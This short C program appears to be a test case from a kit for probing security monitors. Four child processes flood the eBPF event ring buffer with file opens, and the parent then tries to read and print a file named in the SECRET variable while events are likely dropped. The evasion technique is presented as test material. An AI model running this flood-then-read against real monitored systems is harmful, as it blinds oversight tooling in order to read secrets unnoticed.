// tries: to fill the ring buffer of events first, and act then
// works: a tool that can't record may let pass, or say nothing of what it refused
// see: Phantom attack, DEF CON 29; eBPF ring buffer floods
// goal: read
// alone: it takes the machine's time
#include "../kit.h"

int main(void)
{
	for (int child = 0; child < 4; child++)
		if (!fork()) {
			for (int i = 0; i < 5000; i++) {
				int fd = open(env("TARGET"), O_RDONLY);
				if (fd >= 0)
					close(fd);
			}
			_exit(0);
		}
	usleep(50000);
	for (int i = 0; i < 1000; i++) {
		int fd = open(env("SECRET"), O_RDONLY);
		if (fd >= 0)
			return print_from(fd);
	}
	while (wait(NULL) > 0)
		;
	return 0;
}
